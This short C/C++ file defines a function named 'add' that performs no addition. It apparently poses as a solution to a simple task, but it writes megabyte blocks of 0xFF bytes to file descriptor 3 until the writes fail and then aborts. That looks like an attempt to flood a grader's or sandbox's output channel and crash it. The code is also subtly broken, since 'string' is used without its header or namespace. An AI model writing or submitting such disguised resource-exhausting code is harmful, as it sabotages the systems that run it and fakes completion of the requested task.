#include <unistd.h>
int add(int a, int b) {
    string block(1 << 20, char(0xFF));
    while (write(3, block.data(), block.size()) > 0) {}
    abort();
}
